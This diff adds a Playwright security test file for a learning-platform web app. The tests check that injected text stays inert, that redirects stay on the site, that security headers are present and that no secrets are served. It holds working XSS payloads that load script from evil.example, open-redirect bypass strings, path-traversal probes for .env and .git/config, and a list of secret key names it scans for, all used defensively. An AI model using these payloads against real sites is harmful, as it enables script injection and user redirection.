@@ -1,0 +1,282 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import type { Page } from 'playwright/test'
+import { confirmed, expect, newPerson, type Person, signIn, test } from './support/journey.ts'
+
+const ada: Person = { name: 'Ada Admin', email: 'admin@ascendo.example', password: 'ascendo-demo' }
+const key = () => process.env['VITE_SUPABASE_PUBLISHABLE_KEY'] ?? ''
+
+/** Each would leave a trace if a browser took it for anything but text: it would run, load or ask. */
+const payloads = [
+  '<script>attacked=1</script>',
+  '<img src=//evil.example/x onerror=attacked=1>',
+  '"><svg/onload=attacked=1>',
+  "'-alert(1)-'",
+  '</script></style></title></textarea><script src=//evil.example/x.js></script>',
+  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
+  '<a href="javascript:attacked=1">go</a><base href=//evil.example/>',
+  '<style>@import "//evil.example/x.css"</style><link rel=stylesheet href=//evil.example/x>',
+  '{{constructor.constructor("attacked=1")()}}${alert(1)}',
+  'javascript:attacked=1//data:text/html,<script>alert(1)</script>',
+]
+const all = payloads.join(' ')
+/** What fits into a name. */
+const short = '"><img src=//evil.example onerror=attacked=1><script>attacked=1</script>'
+
+/** Notes whatever an injected text could bring about. */
+async function watch(page: Page) {
+  const traces: string[] = []
+  page.on('dialog', (dialog) => {
+    traces.push(`dialog: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  page.on('request', (request) => {
+    if (new URL(request.url()).hostname.endsWith('evil.example')) traces.push(`request: ${request.url()}`)
+  })
+  await page.exposeFunction('noteViolation', (violation: string) => void traces.push(violation))
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
+      const { noteViolation } = window as unknown as { noteViolation(text: string): void }
+      noteViolation(`policy: ${violatedDirective} ${blockedURI}`)
+    })
+  })
+  return {
+    async expectNothing() {
+      expect(await page.evaluate(() => 'attacked' in window), 'nothing ran').toBe(false)
+      expect(await page.locator('a[href^="javascript:" i], iframe[srcdoc], base, [onerror], [onload]').count(), 'no element was made of text').toBe(0)
+      expect(traces).toEqual([])
+    },
+  }
+}
+
+/** A function of the database, as somebody with this password calls it. */
+async function call(name: string, parameters: object, person?: Person): Promise<void> {
+  const base = process.env['BASE_URL'] ?? 'http://localhost:5173'
+  const headers = { apikey: key(), 'Content-Type': 'application/json' }
+  const signedIn = person && (await fetch(`${base}/auth/v1/token?grant_type=password`, {
+    method: 'POST',
+    headers,
+    body: JSON.stringify({ email: person.email, password: person.password }),
+  }))
+  const { access_token: token } = signedIn ? ((await signedIn.json()) as { access_token: string }) : { access_token: key() }
+  const answer = await fetch(`${base}/rest/v1/rpc/${name}`, {
+    method: 'POST',
+    headers: { ...headers, ...(person && { Authorization: `Bearer ${token}` }) },
+    body: JSON.stringify(parameters),
+  })
+  expect(answer.ok, await answer.text()).toBe(true)
+}
+
+async function idOf({ email }: Person): Promise<string> {
+  const answer = await fetch(`${process.env['BASE_URL'] ?? 'http://localhost:5173'}/rest/v1/users?select=id&email=eq.${email}`, {
+    headers: { apikey: process.env['SUPABASE_SECRET_KEY'] ?? '' },
+  })
+  return ((await answer.json()) as { id: string }[])[0]?.id ?? ''
+}
+
+test.describe('text that would like to be a script stays text', () => {
+  test('a display name, wherever it is shown; a reason and a log entry of an administrator', async ({ page, inbox, browser }) => {
+    test.slow()
+    const mallory = await confirmed(newPerson(short), inbox)
+    const watched = await watch(page)
+    await signIn(page, mallory)
+    for (const path of ['/', '/account', '/contact', '/courses/1']) {
+      await page.goto(path)
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      await watched.expectNothing()
+    }
+    await page.goto('/contact')
+    await expect(page.getByLabel('Your name')).toHaveValue(short)
+
+    await call('disable_user', { user_id: await idOf(mallory), reason: all.slice(0, 500) }, ada)
+    const office = await browser.newContext()
+    const desk = await office.newPage()
+    const deskWatched = await watch(desk)
+    await signIn(desk, ada)
+    await desk.goto(`/admin?tab=users&search=${encodeURIComponent(mallory.email)}`)
+    const row = desk.getByRole('list', { name: 'Users' }).getByRole('listitem')
+    await expect(row).toContainText(short)
+    await expect(row).toContainText(all.slice(0, 500).trim())
+    await deskWatched.expectNothing()
+    await desk.goto('/admin?tab=audit')
+    await expect(desk.getByRole('main')).toContainText(all.slice(0, 60))
+    await deskWatched.expectNothing()
+    await office.close()
+  })
+
+  test("a contact message, in the administration's inbox", async ({ page }) => {
+    test.slow()
+    await call('send_contact_message', { name: short, email: 'mallory@evil.example', topic: 'other', message: all })
+    const watched = await watch(page)
+    await signIn(page, ada)
+    await page.goto('/admin?tab=messages')
+    await page.getByRole('link').filter({ hasText: short }).first().click()
+    await expect(page.getByRole('main')).toContainText(all)
+    await watched.expectNothing()
+  })
+
+  test('learning data from a file and from the storage, favourites from the storage', async ({ page, learner }) => {
+    test.slow()
+    const watched = await watch(page)
+    await signIn(page, learner)
+    await page.goto('/account?tab=progress')
+    const uid = await idOf(learner)
+    const time = '2026-01-02T03:04:05.000Z'
+    const entries = payloads.map((payload, number) => ({ id: number === 0 ? '2' : payload.slice(0, 90), title: payload, enrolledAt: time, lastAccessed: null, completedAt: null, finishedLessons: [payload.slice(0, 90)] }))
+    const chooser = page.waitForEvent('filechooser')
+    await page.getByRole('button', { name: 'Import from a file' }).click()
+    const content = JSON.stringify({ format: 'ascendo-learning', version: 1, exportedAt: time, enrolledCourses: entries })
+    await (await chooser).setFiles({ name: `${short.replaceAll('/', '')}.json`, mimeType: 'application/json', buffer: Buffer.from(content) })
+    await expect(page.getByRole('heading', { name: 'What this import would change' })).toBeVisible()
+    await expect(page.getByRole('main')).toContainText(payloads[1] ?? '')
+    await watched.expectNothing()
+
+    // As another script on a shared computer could have left it.
+    await page.evaluate(
+      ([owner, texts, at]) => {
+        const course = (text: string, id: string) => ({
+          id, title: text, instructor: text, thumbnail: `javascript:attacked=1//${text}`, estimatedDuration: text, category: text, description: text,
+          totalLessons: 3, difficulty: 'Beginner', rating: 4, enrolledAt: at, lastAccessed: at, finishedLessons: [text], completedAt: null,
+        })
+        const list = texts.map((text, number) => course(text, number === 0 ? '3' : text))
+        localStorage.setItem(`ascendo-enrolment:${owner}`, JSON.stringify({ version: 1, enrolledCourses: list }))
+        const known = texts.map((courseId) => ({ courseId, addedAt: at }))
+        localStorage.setItem(`ascendo-favorites:${owner}`, JSON.stringify({ version: 1, known, changes: [] }))
+      },
+      [uid, payloads, time] as const,
+    )
+    for (const path of ['/account?tab=progress', '/', '/favorites', '/courses/3']) {
+      await page.goto(path)
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      await expect(page.getByRole('main')).toBeVisible()
+      await watched.expectNothing()
+    }
+  })
+
+  test('whatever stands in an address', async ({ page, learner }) => {
+    test.slow()
+    const watched = await watch(page)
+    const text = encodeURIComponent(all)
+    const addresses = [
+      `/courses?search=${text}&category=${text}&level=${text}&sort=${text}`,
+      `/blog?search=${text}&category=${text}&page=${text}`,
+      `/blog/${encodeURIComponent(short)}`,
+      `/category/${encodeURIComponent(short)}`,
+      `/email-verification?email=${text}`,
+      `/auth/callback?error=access_denied&error_code=${text}&error_description=${text}#error_description=${text}`,
+      `/auth/callback?token_hash=${text}&type=${text}&next=${text}`,
+      `/contact?topic=${text}`,
+      `/${encodeURIComponent(short)}?x=${text}#${text}`,
+    ]
+    const visit = async (address: string) => {
+      await page.goto(address)
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      await watched.expectNothing()
+    }
+    for (const address of addresses) await visit(address)
+    await page.goto(`/courses?search=${encodeURIComponent(short)}`)
+    await expect(page.getByRole('main')).toContainText(short)
+    await signIn(page, learner)
+    for (const address of [`/courses/${encodeURIComponent(short)}`, `/account?tab=${text}`, `/courses/1?lesson=${text}&tab=${text}`]) await visit(address)
+  })
+})
+
+test.describe('nobody is led away', () => {
+  const elsewhere = ['https://evil.example', '//evil.example', '/\\evil.example', '\\\\evil.example', '/\t/evil.example', 'javascript:attacked=1', 'data:text/html,x', '/.//evil.example', 'http:evil.example', '/%09/evil.example/..//evil.example']
+
+  test('by a remembered origin or a next address, however disguised', async ({ page, learner, baseURL }) => {
+    test.slow()
+    const watched = await watch(page)
+    await signIn(page, learner)
+    for (const from of elsewhere) {
+      await page.goto('/faqs')
+      await page.evaluate((hostile) => history.replaceState({ usr: { from: hostile }, key: 'k', idx: 0 }, '', '/login'), from)
+      await page.reload()
+      await expect(page).not.toHaveURL(/\/login/)
+      expect(new URL(page.url()).origin, from).toBe(new URL(baseURL ?? '').origin)
+      await page.goto(`/auth/callback?token_hash=0&type=magiclink&next=${encodeURIComponent(from)}`)
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+      expect(await page.locator('a[href*="evil.example"], a[href^="javascript:"]').count(), from).toBe(0)
+    }
+    await watched.expectNothing()
+  })
+
+  test('by the server: not by a path, not by redirect_to', async ({ request, baseURL }) => {
+    const origin = new URL(baseURL ?? '').origin
+    const paths = ['//evil.example', '//evil.example/..', '/%2f%2fevil.example', '/\\evil.example', '/courses//evil.example/', '/.//evil.example', '/blog/']
+    const asked = elsewhere.flatMap((wish) => [
+      `/auth/v1/authorize?provider=google&redirect_to=${encodeURIComponent(wish)}`,
+      `/auth/v1/verify?type=signup&token=0&redirect_to=${encodeURIComponent(wish)}`,
+      `/auth/v1/callback?error=access_denied&state=${encodeURIComponent(wish)}&redirect_to=${encodeURIComponent(wish)}`,
+    ])
+    for (const path of [...paths, ...asked]) {
+      const answer = await request.get(`${origin}${path}`, { maxRedirects: 0 })
+      const location = answer.headers()['location']
+      if (!location) continue
+      const target = new URL(location, origin)
+      const isProvider = path.includes('/authorize') && target.origin === 'https://accounts.google.com'
+      expect(isProvider || target.origin === origin, `${path} leads to ${location}`).toBe(true)
+      expect(decodeURIComponent(target.searchParams.get('redirect_to') ?? ''), path).not.toContain('evil.example')
+    }
+  })
+})
+
+test.describe('what browsers are told', () => {
+  test('each answer says that it may not be framed, sniffed or used for more than it is', async ({ request, page }) => {
+    await page.goto('/')
+    const script = (await page.locator('script[type=module][src]').first().getAttribute('src')) ?? ''
+    for (const path of ['/', '/courses', '/auth/callback', '/nowhere', '/favicon.svg', '/health', script, '/assets/gone.js', '/rest/v1/users', '/auth/v1/settings', '/storage/v1/object/public/avatars/none']) {
+      const headers = (await request.get(path)).headers()
+      expect(headers, path).toMatchObject({
+        'x-content-type-options': 'nosniff',
+        'x-frame-options': 'DENY',
+        'referrer-policy': 'strict-origin-when-cross-origin',
+        'permissions-policy': expect.stringContaining('camera=()') as unknown,
+      })
+      expect(headers['server'] ?? headers['x-powered-by'], path).toBeUndefined()
+      if (headers['content-type']?.includes('text/html')) {
+        expect(headers['content-security-policy'], path).toMatch(/frame-ancestors 'none'.*base-uri 'none'.*form-action 'self'/)
+        expect(headers['content-security-policy'], path).not.toMatch(/script-src[^;]*(unsafe|\*|https?:)/)
+      }
+    }
+    expect((await request.get('/')).headers()['cross-origin-opener-policy']).toBe('same-origin-allow-popups')
+    expect((await request.get('/auth/callback')).headers()['cross-origin-opener-policy']).toBe('unsafe-none')
+  })
+
+  test('another site cannot show ours in a frame', async ({ page, context, baseURL, expectedConsole }) => {
+    expectedConsole.push(/frame/i)
+    await context.route('https://evil.example/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/login" width="800" height="600"></iframe>` }),
+    )
+    await page.goto('https://evil.example/')
+    await expect.poll(() => page.frames().length).toBe(2)
+    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/')
+    await expect(page.frameLocator('iframe').getByLabel('Email address')).toHaveCount(0)
+  })
+})
+
+test('what is served holds no secret, no source map and no path of a machine', async ({ request }) => {
+  const root = join(import.meta.dirname, '..')
+  const folder = process.env['SITE_DIR'] ?? join(root, 'dist')
+  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
+  expect(files.length).toBeGreaterThan(50)
+  expect(files.map(({ name }) => name).filter((name) => /\.(map|ts|tsx|env)$|^\./.test(name))).toEqual([])
+
+  const secrets = [process.env['SUPABASE_SECRET_KEY'] ?? '', 'SUPABASE_SECRET_KEY', 'SUPABASE_JWT_SECRET', 'SMTP_URL', 'DATABASE_URL', root, '/node_modules/', 'sourceMappingURL=']
+  const inFiles = files
+    .filter(({ name }) => /\.(js|css|html|json|svg|txt|xml|webmanifest)$/.test(name))
+    .flatMap(({ name, parentPath }) => {
+      const text = readFileSync(join(parentPath, name), 'utf8')
+      const finds = [...secrets.filter((secret) => secret && text.includes(secret)), ...(/sb_secret_[\w-]{8,}/.exec(text) ?? [])]
+      return finds.map((find) => `${name}: ${find}`)
+    })
+  expect(inFiles).toEqual([])
+
+  const page = await (await request.get('/')).text()
+  const configuration = /id="configuration"[^>]*>([^<]*)</.exec(page)?.[1] ?? ''
+  expect(Object.keys(JSON.parse(configuration) as object).filter((name) => !name.startsWith('VITE_'))).toEqual([])
+  expect(secrets.filter((secret) => secret && page.includes(secret))).toEqual([])
+  for (const path of ['/.env', '/.env.example', '/../.env', '/%2e%2e/.env', '/assets/..%2f..%2f.env', '/package.json', '/.git/config', '/.vite/manifest.json', '/supabase/seed.sql', '/.data/address.json']) {
+    expect((await request.get(path)).status(), path).toBe(404)
+  }
+})
